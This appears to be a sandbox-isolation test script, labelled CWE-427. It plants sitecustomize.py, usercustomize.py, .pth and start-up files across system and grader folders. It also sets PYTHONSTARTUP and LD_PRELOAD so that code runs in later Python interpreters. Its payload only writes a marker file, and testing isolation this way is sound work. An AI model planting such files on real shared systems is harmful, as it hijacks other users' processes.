"""Leaves `sitecustomize.py`, `usercustomize.py`, a `.pth` file and start-up files for the next interpreter that starts.

Then it starts some, and dies, so that a fresh worker would be the next.
"""

SOURCE = "CWE-427"
SUCCESS = "a file that only an interpreter outside could have left, or points"
FILES = {
    "sitecustomize.py": "open('/tmp/@TOKEN@-@NAME@', 'w').write('hello')",
    "usercustomize.py": "open('/tmp/@TOKEN@-@NAME@', 'w').write('hello')",
    "@NAME@.pth": "import sitecustomize",
}

# %%
import os
import site
import subprocess
import sys

payload = "import os; open('/tmp/@TOKEN@-@NAME@', 'w').write('hello')\n"
folders = {".", "/tmp", "/usr/lib/python3", os.path.dirname(os.__file__), *site.getsitepackages(), *sys.path}
folders |= {site.getusersitepackages(), "@HOME@", "@COURSE@", "@OUT@", "@SUBMITTED@", "/etc/python3", "/etc/profile.d"}
for folder in sorted(folders):
    for name in ("@TOKEN@-@NAME@.pth", "sitecustomize.py", "usercustomize.py", ".pythonrc.py"):
        path = os.path.join(folder, name)
        try:
            os.makedirs(folder, exist_ok=True)
            if not os.path.exists(path):
                open(path, "w").write(payload)
                print("wrote", path)
        except OSError as error:
            print(error)
print("in here:", [name for name in sys.modules if "customize" in name])
for options in ([], ["-P"], ["-I"]):
    done = subprocess.run([sys.executable, *options, "-c", "print('started')"], capture_output=True, text=True)
    print(options, done.stdout, done.stderr[-300:], os.path.exists("/tmp/@TOKEN@-@NAME@"))
print("attempted")

# %%
os.environ |= {"PYTHONSTARTUP": "/home/student/sitecustomize.py", "PYTHONPATH": "/home/student", "LD_PRELOAD": "x.so"}
os._exit(0)
